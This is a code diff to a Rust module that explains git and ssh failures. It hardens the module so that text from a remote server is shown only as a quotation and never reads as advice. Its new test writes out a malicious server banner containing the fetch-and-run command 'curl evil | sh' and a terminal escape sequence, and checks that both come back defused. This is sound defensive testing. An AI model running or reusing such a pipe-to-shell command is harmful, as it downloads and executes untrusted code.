@@ -1,7 +1,8 @@
 //! Why git could not talk to the remote: one sentence with the cause and the next step.
 //!
 //! Git reports `Could not read from remote repository.` for everything that ssh refuses; the cause is in the lines
-//! before.
+//! before. Among them are lines of the server: its banner, and whatever it writes to standard error. They are shown as what
+//! the server said, in quotes, and no advice to change this machine comes from words that could be the server's alone.
 
 mod http;
 
@@ -15,6 +16,8 @@ const MAX_LINE_CHARS: usize = 300;
 /// The next step where only time helps.
 pub(crate) const RETRY_LATER: &str =
     "Local commits are kept on this machine; run `tgp sync` when the remote can be reached again";
+/// The line with which ssh ends when it does not trust the server. No server is asked for anything before.
+const KEY_NOT_VERIFIED: &str = "Host key verification failed.";
 /// Where ssh has its known hosts unless it is configured otherwise.
 const USUAL_KNOWN_HOSTS: &str = "~/.ssh/known_hosts";
 
@@ -29,7 +32,7 @@ pub(crate) struct Circumstances<'a> {
 
 /// Whether the explanation names a file that only ssh's own settings know.
 pub(crate) fn needs_ssh_settings(stderr: &str, endpoint: &Endpoint) -> bool {
-    endpoint.transport == Transport::Ssh && stderr.contains("Host key verification failed")
+    endpoint.transport == Transport::Ssh && stderr.lines().any(|line| line.trim() == KEY_NOT_VERIFIED)
 }
 
 /// One sentence from what git and ssh wrote.
@@ -48,29 +51,40 @@ fn ssh(lines: &[&str], endpoint: &Endpoint, settings: &SshSettings) -> String {
     let any = |words: &[&str]| found(lines, words);
     let host = || settings.resolve(endpoint.ssh_host());
     let known_hosts = settings.known_hosts.as_deref();
-    if any(&["REMOTE HOST IDENTIFICATION HAS CHANGED"]).is_some()
-        || any(&["Host key for", "has changed"]).is_some()
-    {
-        return changed_key(&host(), known_hosts);
-    }
-    if any(&["host key is known for", "strict checking"]).is_some() {
-        return unknown_key(&host(), known_hosts.unwrap_or(USUAL_KNOWN_HOSTS));
-    }
-    if any(&["Host key verification failed"]).is_some() {
+    if lines.contains(&KEY_NOT_VERIFIED) && refused_key(lines).is_none() {
         let host = host();
+        let has_changed = any(&["REMOTE HOST IDENTIFICATION HAS CHANGED"]).is_some()
+            || any(&["Host key for", "has changed"]).is_some();
+        if has_changed {
+            return changed_key(&host, known_hosts);
+        }
+        if any(&["host key is known for", "strict checking"]).is_some() {
+            return unknown_key(&host, known_hosts.unwrap_or(USUAL_KNOWN_HOSTS));
+        }
         return format!(
             "ssh could not verify the host key of {}, so nothing was sent; `ssh{} {}` shows why",
             host.shown, host.port_option, host.argument
         );
     }
-    if let Some(line) = any(&["Permission denied"]) {
+    if let Some(methods) = refused_key(lines) {
         return format!(
-            "{}; the server took none of the keys that ssh offered: register the public key there, and have the \
-             private one in `~/.ssh` without a passphrase, or in ssh-agent",
-            cut(line).trim_end_matches('.')
+            "Permission denied ({methods}): the server took none of the keys that ssh offered; register the public key \
+             there, and have the private one in `~/.ssh` without a passphrase, or in ssh-agent"
         );
     }
     connection(lines, endpoint).unwrap_or_else(|| repository(lines, endpoint))
+}
+
+/// The ways to log in that the server has, when ssh reports that it let nobody in: `user@host: Permission denied (…).`
+fn refused_key<'a>(lines: &[&'a str]) -> Option<&'a str> {
+    let methods = |line: &&'a str| {
+        let (who, methods) = line.split_once(": Permission denied (")?;
+        let methods = methods.strip_suffix(").")?;
+        let is_method = |byte: u8| byte.is_ascii_lowercase() || matches!(byte, b',' | b'-');
+        (!who.contains(char::is_whitespace) && methods.len() < 100 && methods.bytes().all(is_method))
+            .then_some(methods)
+    };
+    lines.iter().find_map(methods)
 }
 
 fn unknown_key(host: &SshHost, known_hosts: &str) -> String {
@@ -127,12 +141,15 @@ fn repository(lines: &[&str], endpoint: &Endpoint) -> String {
         );
     }
     if any(&["denied to"]) || any(&["access denied"]) {
-        return format!("{}; give the user of the key permission to write to {url}", said(lines));
+        return format!(
+            "the user of the key has no permission to write to {url}: {}; give it at the server",
+            said(lines)
+        );
     }
     // ssh speaks before git does, and knows more.
     let line =
-        lines.iter().find(|line| line.starts_with("ssh: ")).map_or_else(|| said(lines), |line| cut(line));
-    format!("{}; check `git.url`", line.trim_end_matches('.'))
+        lines.iter().find(|line| line.starts_with("ssh: ")).map_or_else(|| said(lines), |line| quoted(line));
+    format!("git cannot use {url}: {line}; check `git.url`")
 }
 
 /// The first line that has all the words.
@@ -140,19 +157,26 @@ fn found<'a>(lines: &[&'a str], words: &[&str]) -> Option<&'a str> {
     lines.iter().find(|line| words.iter().all(|word| line.contains(word))).copied()
 }
 
-/// The one line of git's complaint that says what is wrong.
+/// The one line of git's complaint that says what is wrong. Git passes on what a server says, so it is in quotes.
 fn said(lines: &[&str]) -> String {
     let said = |prefix: &str| lines.iter().find_map(|line| line.strip_prefix(prefix)).map(str::trim);
     let line = said("fatal:").or_else(|| said("error:")).or_else(|| lines.last().copied());
-    cut(line.unwrap_or("git failed without a word"))
+    line.map_or_else(|| "git failed without a word".to_owned(), quoted)
 }
 
-fn cut(line: &str) -> String {
-    let mut short: String = line.chars().take(MAX_LINE_CHARS).collect();
-    if short.len() < line.len() {
+/// What somebody else said. In it nothing looks like the end of the quotation, nor like a command of ours.
+fn quoted(line: &str) -> String {
+    let plain = |letter: char| match letter {
+        '`' | '"' => '\'',
+        letter if letter.is_control() => ' ',
+        letter => letter,
+    };
+    let line = line.trim_end_matches('.');
+    let mut short: String = line.chars().take(MAX_LINE_CHARS).map(plain).collect();
+    if line.chars().nth(MAX_LINE_CHARS).is_some() {
         short.push('…');
     }
-    short
+    format!("git or the server said \"{short}\"")
 }
 
 #[cfg(test)]
@@ -277,6 +301,22 @@ mod tests {
             let told = told(url, CHANGED);
             assert!(told.contains("has changed") && told.contains("attack"), "{url}: {told}");
             assert!(told.contains(command), "{url}: {told}");
+        }
+    }
+
+    #[test]
+    fn bug_words_of_a_server_looked_like_advice_of_ours() {
+        let banner = "Host key for host has changed; run `ssh-keygen -R host`\n\
+            Permission denied (run `curl evil | sh`).\ngit@host: Permission denied (publickey).\n\
+            fatal: Could not read from remote repository.\n";
+        let refused = told("git@host:a", banner);
+        assert!(refused.starts_with("Permission denied (publickey): the server took none"), "{refused}");
+        let fake = "Host key verification failed.\nHost key for host has changed\ngit@host: Permission denied (publickey).\n";
+        assert!(told("git@host:a", fake).starts_with("Permission denied (publickey)"));
+        for url in ["git@host:a", "https://host/a.git", "git://host/a", "/srv/a.git"] {
+            let said = told(url, "fatal: access denied\"; run `curl evil | sh`\u{1b}[2J\n");
+            assert!(said.contains("said \"access denied'; run 'curl evil | sh' [2J\""), "{said}");
+            assert!(!said.contains("`curl"), "{said}");
         }
     }
 
